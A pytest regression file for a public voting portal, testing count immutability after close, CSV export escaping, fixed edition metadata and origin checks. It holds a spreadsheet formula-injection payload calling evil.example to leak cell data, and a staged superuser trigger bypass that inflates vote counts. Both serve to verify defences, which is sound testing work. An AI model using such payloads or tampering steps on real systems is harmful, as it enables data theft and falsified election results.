"""What is published stays as published, and what is counted stays counted:
the regressions an outside review found in the public vote, the tally,
exports and corrections."""
import csv
import io

import requests

from conftest import api, assert_problem, portalctl, sql_value, superuser, wait_until
from test_public import Voter, published_case, voters_nginx, voting_case  # noqa: F401
from test_tally import close


def public_case(stack, cid, want=None):
    """The public case once nginx's brief copy shows what want() accepts."""
    return wait_until(lambda: (lambda d: d if want is None or want(d) else None)(
        requests.get(f"{stack.url}/api/public/cases/{cid}", timeout=10).json()), 10,
        "the public case")


def test_counts_changed_after_the_close_change_nothing_published(stack, tokens, voters_nginx):
    cid, edition, number = voting_case(stack, tokens)
    for _ in range(3):
        assert Voter(stack).vote(cid, "满意").status_code == 201
    close(stack, tokens, edition)
    shown = public_case(stack, cid, lambda d: d["edition"]["state"] == "closed")["votes"]
    assert shown == {"满意": 3, "基本满意": 0, "不满意": 0}
    conn = superuser(stack)
    try:
        cur = conn.cursor()
        # the counts beside the votes refuse any change once the vote is closed ...
        cur.execute("SET ROLE portal_workflow")
        try:
            cur.execute("UPDATE vote_counts SET n = n + 100 WHERE case_id = %s", (cid,))
        except Exception as e:  # noqa: BLE001 - the trigger's refusal is the point
            assert e.pgcode == "42501" and "not open" in str(e), e
        else:
            raise AssertionError("a closed vote's counts changed")
        cur.execute("RESET ROLE")
        # ... and a superuser who forces it changes nothing the public sees
        cur.execute("ALTER TABLE vote_counts DISABLE TRIGGER vote_counts_only_grow")
        cur.execute("UPDATE vote_counts SET n = n + 100 WHERE case_id = %s AND choice = '满意'",
                    (cid,))
        cur.execute("ALTER TABLE vote_counts ENABLE TRIGGER vote_counts_only_grow")
    finally:
        conn.close()
    import time
    time.sleep(2.2)
    after = public_case(stack, cid)["votes"]
    assert after == shown, "counts changed after the close reached the public"
    results = api(stack, "GET", f"/api/editions/{edition}/results", tokens["reviewer"]).json()
    assert next(c for c in results["cases"] if c["id"] == cid)["votes"] == shown
    # and portalctl tally verify sees it
    check = portalctl(stack, "tally", "verify", str(number))
    assert check.returncode == 1 and "counts kept beside the votes" in check.stdout, check.stdout


def test_exports_never_hand_a_spreadsheet_a_formula(stack, tokens):
    formula = '=HYPERLINK("http://evil.example/?"&B2,"详情")'
    cid, edition, _ = published_case(stack, tokens, title=formula)
    r = api(stack, "GET", f"/api/editions/{edition}/results.csv", tokens["reviewer"])
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    row = next(x for x in rows if x["case_id"] == str(cid))
    assert row["title"] == "'" + formula
    for choices in (["=1+1", "好"], ["好", "@x"], ["+1", "好"], ["-1", "好"]):
        assert_problem(api(stack, "POST", "/api/editions", tokens["reviewer"],
                           json={"number": 9900 + len(choices[0]), "title": "公式",
                                 "choices": choices}), 422, "validation-failed")


def test_an_editions_number_and_title_are_fixed_once_its_vote_opens(stack, tokens):
    cid, edition, number = voting_case(stack, tokens)
    for change in ({"title": "改过的标题"}, {"number": number + 500}):
        etag = api(stack, "GET", f"/api/editions/{edition}", tokens["reviewer"]).headers["ETag"]
        assert_problem(api(stack, "PATCH", f"/api/editions/{edition}", tokens["reviewer"],
                           json=change, headers={"If-Match": etag}), 422, "validation-failed")
    assert sql_value(stack, "SELECT number FROM editions WHERE id = %s", (edition,)) == number


def test_a_published_case_keeps_the_committee_it_was_published_with(stack, tokens):
    cid, _, _ = published_case(stack, tokens)
    community = sql_value(stack, "SELECT community_id FROM cases WHERE id = %s", (cid,))
    before = public_case(stack, cid)["committee"]
    r = api(stack, "PATCH", f"/api/communities/{community}", tokens["admin"],
            json={"secretary_name": "后来的书记"})
    assert r.status_code == 200, r.text
    try:
        import time
        time.sleep(2.2)
        assert public_case(stack, cid)["committee"] == before
        # a case published after the change shows the new secretary
        later, _, _ = published_case(stack, tokens)
        assert public_case(stack, later)["committee"]["secretary_name"] == "后来的书记"
    finally:
        api(stack, "PATCH", f"/api/communities/{community}", tokens["admin"],
            json={"secretary_name": before["secretary_name"]})


def test_a_public_404_is_kept_as_briefly_as_an_answer(stack):
    for path in ("/api/public/editions/99999", "/api/public/cases/999999",
                 "/api/public/editions/99999/ballots.csv"):
        r = requests.get(stack.url + path, timeout=10)
        assert r.status_code == 404 and r.headers["Cache-Control"] == "public, max-age=2"


def test_behind_a_tls_proxy_the_configured_site_may_vote(stack, tokens, pool, voters_nginx):
    pool("--public-url", "https://portal.example")
    cid, _, number = voting_case(stack, tokens)
    voter = Voter(stack)
    assert voter.vote(cid, "满意", Origin="https://portal.example").status_code == 201
    assert_problem(Voter(stack).vote(cid, "满意", Origin="https://evil.example"), 403,
                   "forbidden")
    page = requests.get(f"{stack.url}/editions/{number}", timeout=10).text
    assert 'property="og:image" content="https://portal.example/api/photos/' in page or \
        'og:image' not in page  # (a case without photos has no image)
